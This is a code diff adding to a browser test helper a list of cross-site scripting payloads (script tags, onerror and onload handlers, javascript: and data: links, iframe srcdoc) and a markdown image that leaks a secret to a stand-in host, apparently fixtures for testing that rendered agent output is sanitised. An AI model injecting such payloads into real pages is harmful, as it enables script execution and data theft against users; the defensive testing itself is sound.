@@ -2,6 +2,18 @@ import axe from "axe-core";
 import type { Locator, Page } from "playwright-core";
 import { desktop, phone } from "./web-browser.ts";
 
+/** What an agent, a tool or a file may write to become a part of the page. */
+export const hostile = [
+  "<script>window.hacked = 1</script>",
+  "<img src=x onerror='window.hacked = 1'>",
+  "<svg onload='window.hacked = 1'></svg>",
+  "[click](javascript:window.hacked=1)",
+  "![picture](https://evil.example/leak?secret)",
+  "<a href='javascript:window.hacked=1'>x</a>",
+  "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
+  "[x](data:text/html,<script>window.hacked=1</script>)",
+].join("\n\n");
+
 export const terminal = (command: string, summary: string) => ({
   name: "terminal",
   arguments: { command, summary, security_risk: "LOW" },
